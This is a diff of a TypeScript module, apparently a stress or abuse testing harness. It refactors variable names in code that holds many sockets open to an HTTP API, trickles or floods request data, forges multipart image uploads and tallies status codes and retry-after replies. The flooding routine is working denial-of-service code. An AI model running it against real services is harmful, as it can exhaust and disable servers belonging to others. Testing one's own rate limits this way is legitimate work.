@@ -15,11 +15,9 @@ export interface AttackOptions extends FloodOptions {
   readonly attack: AttackName;
   readonly victim: string;
   readonly player: string;
-  /** URLs of lineup pictures, each redirecting to its current version. */
   readonly pictures: readonly string[];
   readonly pages: readonly string[];
   readonly tokens: readonly string[];
-  /** Null if no attack of the run needs it. */
   readonly collected: Collected | null;
 }
 
@@ -51,20 +49,20 @@ const registerPath = `${api}/users/registerRedirect`;
 interface Script {
   readonly start: string;
   readonly next: string | Buffer;
-  /** 0: as fast as the server accepts it. */
+  /** Milliseconds between two writes, or 0 to write as fast as the server reads. */
   readonly pause: number;
 }
 
-/** Keeps `width` connections sending the script, reopening each one that is closed. */
+/** Keeps `width` connections open that send the script, and reopens closed ones. */
 async function speak(options: AttackOptions, script: Script): Promise<EndCounts> {
   const { port, addresses, seconds, minAnswers = 0, width } = options;
   const ends: EndCounts = {};
   const ending = new AbortController();
-  const over = ending.signal;
-  const until = performance.now() + seconds * 1000;
+  const { signal } = ending;
+  const endTime = performance.now() + seconds * 1000;
   const watching = setInterval(() => {
     const ended = Object.values(ends).reduce((sum, number) => sum + number, 0);
-    if (performance.now() >= until && ended >= minAnswers) ending.abort();
+    if (performance.now() >= endTime && ended >= minAnswers) ending.abort();
   }, 50);
   async function connection(worker: number): Promise<void> {
     const { promise, resolve } = Promise.withResolvers<void>();
@@ -73,7 +71,7 @@ async function speak(options: AttackOptions, script: Script): Promise<EndCounts>
       socket.write(script.start);
       sendNext();
     });
-    let answered = false;
+    let hasResponse = false;
     function sendNext(): void {
       if (socket.destroyed) return;
       const isBuffered = socket.write(script.next);
@@ -82,25 +80,25 @@ async function speak(options: AttackOptions, script: Script): Promise<EndCounts>
       else setImmediate(sendNext);
     }
     const leave = () => socket.destroy();
-    over.addEventListener('abort', leave);
+    signal.addEventListener('abort', leave);
     socket.on('data', (chunk) => {
-      if (answered) return;
-      answered = true;
+      if (hasResponse) return;
+      hasResponse = true;
       const head = chunk.toString('latin1');
       const status = Number(/^HTTP\/1\.1 (\d+)/.exec(head)?.[1] ?? 0);
       count(ends, endOf(status, /^retry-after: *(.+)$/im.exec(head)?.[1]));
     });
     socket.on('error', () => undefined);
     socket.on('close', () => {
-      if (!answered) count(ends, over.aborted ? 'still open' : 'closed');
-      over.removeEventListener('abort', leave);
+      if (!hasResponse) count(ends, signal.aborted ? 'still open' : 'closed');
+      signal.removeEventListener('abort', leave);
       resolve();
     });
     return promise;
   }
   await Promise.all(
     Array.from({ length: width }, async (_, worker) => {
-      while (!over.aborted) {
+      while (!signal.aborted) {
         await connection(worker);
         await sleep(100);
       }
@@ -118,11 +116,11 @@ function form(
   fields: Readonly<Record<string, string>>,
   file: Buffer,
 ): Pick<Call, 'body' | 'headers'> {
-  const line = '--abuse\r\ncontent-disposition: form-data; name=';
+  const partHead = '--abuse\r\ncontent-disposition: form-data; name=';
   const texts = Object.entries(fields).map(
-    ([name, value]) => `${line}"${name}"\r\n\r\n${value}\r\n`,
+    ([name, value]) => `${partHead}"${name}"\r\n\r\n${value}\r\n`,
   );
-  const fileHead = `${line}"image"; filename="a.jpg"\r\ncontent-type: image/jpeg\r\n\r\n`;
+  const fileHead = `${partHead}"image"; filename="a.jpg"\r\ncontent-type: image/jpeg\r\n\r\n`;
   return {
     headers: { 'content-type': 'multipart/form-data; boundary=abuse' },
     body: Buffer.concat([
